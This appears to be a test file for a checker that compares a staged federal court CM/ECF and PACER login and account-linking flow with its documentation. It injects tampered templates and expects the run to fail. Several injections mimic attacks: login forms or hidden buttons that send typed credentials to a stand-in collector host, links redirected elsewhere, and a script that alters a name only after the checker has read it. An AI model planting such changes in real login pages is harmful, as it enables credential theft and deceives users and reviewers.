"""A court that is not as documented fails the run at the right step, in words that name both sides."""

from pathlib import Path

import pytest

from config.secret import Secret
from ecfcheck.court.stage import Control
from tests.flows.changed import Break, failure, run_against, stage_with

WEBSITE = "templates/website/home.html"
ROW = "<tr><td>CM/ECF</td>"

BREAKS = {
    "a menu entry is renamed": Break(
        "ecf/menu.py",
        '"Reports"',
        '"Records"',
        "3",
        "cmecf_home menu: documented [Query, Reports, Utilities, Help, Log Out]; "
        "seen [Query, Records, Utilities, Help, Log Out] (not seen: [Reports]; not documented: [Records])",
    ),
    "a field is dropped": Break(
        "templates/ecf/link.html",
        'type="password"',
        'type="hidden"',
        "4",
        "link_account fields: documented [CM/ECF login:, CM/ECF password:]; "
        "seen [CM/ECF login:] (not seen: [CM/ECF password:])",
    ),
    "a name on the confirmation is swapped": Break(
        "templates/ecf/link_confirmation.html",
        "{{ proposal.ecf_name }}",
        "{{ proposal.pacer_name }}",
        "5",
        'link_confirmation rows shows CM/ECF as "',
    ),
    "the Criminal entry is lost": Break(
        "ecf/menu.py",
        "Crimi<u>n</u>al",
        "Cri<u>m</u>es",
        "6",
        "(not seen: [Criminal]; not documented: [Crimes])",
    ),
    "the notice is changed": Break(
        "templates/pacer/login.html",
        "All activities and access attempts are logged.",
        "Some activities are logged.",
        "restricted",
        "prosecution under Title 18 of the U.S. Code. Some activities are logged.",
    ),
    "a wrong name stands above the right one": Break(
        "templates/ecf/link_confirmation.html",
        ROW,
        f"<tr><td>CM/ECF</td><td>Somebody Else</td></tr>{ROW}",
        "5",
        'shows CM/ECF as "Somebody Else and again ',
    ),
    "a name stands in a third cell": Break(
        "templates/ecf/link_confirmation.html",
        ROW,
        f"<tr><td>CM/ECF</td><td>No.</td><td>7</td></tr>{ROW}",
        "5",
        'shows CM/ECF as "No. | 7 and again ',
    ),
    "a name cannot be seen": Break(
        "templates/ecf/link_confirmation.html",
        "<td>{{ proposal.pacer_name }}</td>",
        '<td style="display: none">{{ proposal.pacer_name }}</td>',
        "5",
        'link_confirmation rows shows PACER as ""',
    ),
    "another account is spoken of beside the rows": Break(
        "templates/ecf/link_confirmation.html",
        "link these accounts?</p>",
        "link these accounts?</p><p>PACER account of Smith and Partners LLP</p>",
        "5",
        "not documented: [PACER account of Smith and Partners LLP]",
    ),
    "a link cannot be seen": Break(
        "templates/pacer/login.html",
        '<a href="/pscof/forgotUserName.jsf">',
        '<a style="display: none" href="/pscof/forgotUserName.jsf">',
        "2",
        "not seen: [Forgot User Name?]",
    ),
    "a menu entry is no link of the menu's kind": Break(
        "templates/ecf/page.html",
        "{% endfor %}</ul>",
        '{% endfor %}<li><a href="/">Civil</a></li></ul>',
        "3",
        "not documented: [Civil]",
    ),
    "the question is worded otherwise": Break(
        "templates/ecf/link_confirmation.html",
        "Do you want to link",
        "Do you wish to link",
        "5",
        "not documented: [Do you wish to link these accounts?]",
    ),
    "the court alerts its users": Break(
        "templates/ecf/link.html",
        "{% block content %}",
        "{% block content %}<script>alert('Closed tonight')</script>",
        "4",
        'a dialog that is not documented: "Closed tonight"',
    ),
    "what is typed at the login would be sent elsewhere": Break(
        "templates/pacer/login.html",
        '<form id="loginForm" name="loginForm" method="post"',
        '<form id="loginForm" name="loginForm" method="post" action="http://collector.localhost:9/take"',
        "2",
        "and a form of the screen sends what is typed to http://collector.localhost:9/take",
    ),
    "a button of the link form would send it elsewhere": Break(
        "templates/ecf/form.html",
        '<input name="reset"',
        '<input type="submit" value="" hidden formaction="//collector.localhost:9/take"><input name="reset"',
        "4",
        "link_account submit: nothing was typed; the court's file says http://ecf.ctd.localhost:",
    ),
    "two links with the same words lead to different places": Break(
        WEBSITE,
        "<p>Attorneys file",
        '<a href="http://elsewhere.localhost:9/">E-Filing (CM/ECF)</a><p>Attorneys file',
        "1",
        'links with the same words lead to different places, so none was clicked: "E-Filing (CM/ECF) »" -> http://',
    ),
    "the link leads to another host": Break(
        WEBSITE,
        "{{ ecf }}{{ court.way_in.path }}",
        "http://elsewhere.localhost:9/",
        "1",
        '"E-Filing (CM/ECF) »" leads to http://elsewhere.localhost:9/; the court\'s file says that CM/ECF is',
    ),
    "the link leads to the training database": Break(
        WEBSITE,
        "{{ ecf }}{{ court.way_in.path }}",
        "http://ecf-train.ctd.localhost:9/",
        "1",
        "leads to http://ecf-train.ctd.localhost:9/, a training system; the court's file says",
    ),
    "the front page has no link": Break(
        "templates/ecf/front_page.html",
        '<a href="{{ login }}">{{ link }}</a>',
        "",
        "one-login",
        "click_logo should lead to cmecf_front_page, known by a link to the login; shown: no screen",
    ),
    "the menu bar has no way to log out": Break(
        "templates/ecf/page.html",
        "{% for entry in bar %}",
        "{% for entry in bar if not entry.address or 'logout' not in entry.address %}",
        "2",
        "log_in should lead to cmecf_home, known by a menu bar with a link that logs out; shown: no screen",
    ),
    "the court opens another window": Break(
        "templates/ecf/link.html",
        "{% block content %}",
        "{% block content %}<script>window.open('/cgi-bin/CourtInfo.pl?location=main')</script>",
        "4",
        "link_account: the court opened another tab or window, which is not documented: http://ecf.ctd.localhost:",
    ),
    "the password would be shown as it is typed": Break(
        "templates/pacer/_password.html",
        'type="password"',
        'type="text"',
        "2",
        "pacer_login does not let log_in be done, and nothing was sent",
    ),
}


CHANGES_ONCE_READ = """<script>
const ask = document.querySelectorAll.bind(document);
let readings = 0;
document.querySelectorAll = css => {
    // The rows are read for themselves, and for whether the names agree; then once more.
    const again = css.includes('tr:not(:has(tr))') && ++readings === 3;
    if (again) ask('.accounts td')[3].textContent = 'Somebody Else';
    return ask(css);
};
</script>"""


def test_what_is_submitted_for_good_is_read_again_right_before(tmp_path: Path) -> None:
    end = "{% endcall %}\n"
    changes = Break("templates/ecf/link_confirmation.html", end, end + CHANGES_ONCE_READ, "5", "")
    with stage_with(changes, tmp_path) as ready:
        run_against(ready, tmp_path)
        events = Control(ready["control"], Secret(ready["token"])).events()
    failed = failure(tmp_path)
    assert (failed["step"], failed["outcome"]) == ("5", "DRIFT")
    assert 'rows shows PACER as "Somebody Else"' in failed["message"]
    assert "link_made" not in [event["kind"] for event in events]


@pytest.mark.parametrize("change", BREAKS.values(), ids=BREAKS.keys())
def test_a_court_that_differs_fails_at_the_step_that_documents_it(change: Break, tmp_path: Path) -> None:
    with stage_with(change, tmp_path) as ready:
        run = run_against(ready, tmp_path)
    failed = failure(tmp_path)
    assert (failed["step"], failed["outcome"], run.returncode) == (change.step, "DRIFT", 1)
    assert change.told in failed["message"]
    assert change.told.split("; ")[0] in " ".join(run.stdout.split())
    assert (tmp_path / "out" / "report.html").is_file()
